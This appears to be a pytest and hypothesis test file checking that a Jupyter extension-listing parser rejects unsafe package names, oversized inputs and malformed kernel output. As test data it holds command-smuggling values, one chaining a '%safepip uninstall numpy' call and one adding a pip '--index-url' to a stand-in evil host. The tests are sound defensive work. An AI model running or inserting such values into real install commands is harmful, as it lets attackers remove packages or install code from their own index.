"""A kernel's words become values, or nothing."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ipython_where.page.offered import BadListing, is_name, parse_offers, parse_place

NAMES = ["anywidget", "jupyter-matplotlib", "@jupyter-widgets/jupyterlab-manager", "a.b_c-d", "X1"]
NO_NAMES: list[object] = [
    *(
        "",
        ".",
        "..",
        "../x",
        "a/b",
        "@a",
        "@a/",
        "@/b",
        "@a/b/c",
        "@../x",
        "@a/..",
        "a..b",
        "a\\b",
        "a:b",
        "/a",
        ".hidden",
        "_x",
    ),
    *(
        "@.a/b",
        "@a/.b",
        "a b",
        "a\n",
        "é",
        "a%2fb",
        "static",
        "static2",
        "themes",
        "Schemas",
        "@a/themes",
        "@schemas/x",
        "@a./b",
        "x.",
        "a" * 215,
        None,
        1,
        [],
        {},
    ),
]
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda each: st.lists(each, max_size=4) | st.dictionaries(st.text(max_size=10), each, max_size=4),
    max_leaves=20,
)


@pytest.mark.parametrize("name", NAMES)
def test_a_name_is_one_folder_or_one_in_a_scope(name: str) -> None:
    assert is_name(name)


@pytest.mark.parametrize("name", NO_NAMES)
def test_anything_else_is_no_name(name: object) -> None:
    assert not is_name(name)


def test_an_extension_is_read_with_what_can_be_believed() -> None:
    said = {"name": "sound", "version": "1.0", "bytes": 5, "server": ["a\x1b[2J", 3], "needs": ["anywidget", "../x"]}
    (found,) = parse_offers([said | {"sha256": "A" * 64, "server_distribution": "x; %safepip uninstall numpy"}])
    assert (found.name, found.version, found.size) == ("sound", "1.0", 5)
    assert (found.server, found.needs) == (("a[2J",), ("anywidget",))
    assert (found.digest, found.server_distribution) == (None, None)


def test_what_has_no_name_or_version_to_serve_is_left_out() -> None:
    said = [
        {"name": "x"},
        {"name": "../x", "version": "1"},
        {"name": "x", "version": "1\n"},
        {"name": "y", "version": "1"},
    ]
    assert [each.name for each in parse_offers([*said, {"name": "y", "version": "2"}])] == ["y"]


@pytest.mark.parametrize("said", [None, {}, "x", [1], [[]], [{"name": "x", "version": "1"}] * 3_000])
def test_what_is_no_list_of_extensions_is_refused(said: object) -> None:
    with pytest.raises(BadListing):
        parse_offers(said)


@settings(deadline=None)
@given(JSON)
def test_nothing_that_a_kernel_says_is_a_traceback(said: object) -> None:
    parse_place(said)
    try:
        found = parse_offers(said)
    except BadListing:
        return
    assert all(is_name(each.name) for each in found)


@settings(deadline=None)
@given(st.text(max_size=50))
def test_a_place_is_one_line_for_the_log(host: str) -> None:
    assert parse_place({"host": host}).host.isprintable()


def test_what_comes_into_a_line_to_run_is_a_projects_name_as_a_whole() -> None:
    said = {"name": "sound", "version": "1", "bytes": 10**400}
    (found,) = parse_offers([said | {"server_distribution": "a" * 100 + " --index-url https://evil.example evil"}])
    assert found.server_distribution is None
    assert found.size / 1e6 > 1
